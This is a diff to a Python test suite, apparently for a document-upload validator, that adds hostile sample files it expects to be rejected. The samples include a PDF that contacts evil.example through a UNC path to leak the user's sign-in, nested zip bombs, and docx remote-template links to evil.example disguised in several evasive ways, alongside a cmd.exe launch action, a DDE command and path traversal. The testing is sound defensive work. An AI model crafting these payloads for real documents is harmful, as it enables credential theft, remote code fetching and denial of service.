@@ -142,6 +142,14 @@ def _launch(made: pikepdf.Pdf) -> None:
     made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))
 
 
+def _elsewhere(made: pikepdf.Pdf) -> None:
+    """Opened on another machine, which is then told who opened it (and gets the sign-in of a Windows user to try)."""
+    where = pikepdf.Dictionary(
+        S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\\\\\evil.example\\\\x"), D=pikepdf.Array([0])
+    )
+    made.pages[0].obj.AA = pikepdf.Dictionary(O=where)
+
+
 def _attachment(made: pikepdf.Pdf) -> None:
     made.attachments["x.exe"] = b"MZ"
 
@@ -152,6 +160,12 @@ def _form(made: pikepdf.Pdf) -> None:
 
 def _bomb() -> bytes:
     return office(more={"word/media/image1.png": b"\0" * (1100 * 1024 * 1024)})
+
+
+def _bombs() -> bytes:
+    """Small ones within: none of them is too much by itself."""
+    one = office("xlsx", more={"xl/media/image1.png": b"\0" * (400 * 1024 * 1024)})
+    return office(more={f"word/embeddings/{number}.xlsx": one for number in range(3)})
 
 
 def _lying() -> bytes:
@@ -183,6 +197,7 @@ BAD: dict[str, tuple[Callable[[], bytes], str]] = {
     "pdf with a script": (lambda: pdf(_javascript), "programma"),
     "pdf with a script deep in a page": (lambda: pdf(_deep_javascript), "programma"),
     "pdf that starts a program": (lambda: pdf(_launch), "programma"),
+    "pdf that opens a file elsewhere": (lambda: pdf(_elsewhere), "programma"),
     "pdf with a form of its own": (lambda: pdf(_form), "programma"),
     "pdf with a file in it": (lambda: pdf(_attachment), "verpakt"),
     "pdf with a password": (lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "wachtwoord"),
@@ -204,6 +219,26 @@ BAD: dict[str, tuple[Callable[[], bytes], str]] = {
         lambda: office(rels=b'<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil.example/x"/>'),
         "ander adres",
     ),
+    "docx that fetches a template, its letters written as numbers": (
+        lambda: office(rels=b'<Relationship Type="http://x/attachedTemplate" TargetMode="&#69;xternal" Target="http://evil.example/x"/>'),
+        "ander adres",
+    ),
+    "docx that fetches a template behind a sign that seems to end it": (
+        lambda: office(rels=b'<Relationship Id=">" Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil.example/x"/>'),
+        "ander adres",
+    ),
+    "docx that fetches a template under another name": (
+        lambda: office(rels=b'<a-b:Relationship xmlns:a-b="x" Type="http://x/frame" TargetMode="External" Target="http://evil.example/x"/>'),
+        "ander adres",
+    ),
+    "docx that fetches a template after a lot of nothing": (
+        lambda: office(
+            rels=b" " * (33 * 1024 * 1024)
+            + b'<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil.example/x"/>'
+        ),
+        "ander adres",
+    ),
+    "docx with relations that are none": (lambda: office(rels=b"<Relationship"), "niet zuiver"),
     "xlsx that gives commands": (lambda: office("xlsx", more={"xl/worksheets/s.xml": b'<f>DDE "cmd" "/c calc"</f>'}), "macro"),
     "docx with definitions": (lambda: office(more={"word/x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "niet zuiver"),
     "docx with a part outside": (lambda: office(more={"../../etc/passwd": b"x"}), "niet zuiver"),
@@ -216,6 +251,7 @@ BAD: dict[str, tuple[Callable[[], bytes], str]] = {
     "odt with a password": (lambda: odt(manifest=b"<manifest:encryption-data/>"), "wachtwoord"),
     "opendocument of another sort": (lambda: odt(kind=b"graphics"), "zipbestand"),
     "zip bomb": (_bomb, "veel meer"),
+    "zip bombs within a zip": (_bombs, "veel meer"),
     "zip that lies about sizes": (_lying, "Office-bestand|veel meer"),
     "zip with overlapping parts": (_overlapping, "veel meer"),
     "old word document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "oud Office"),
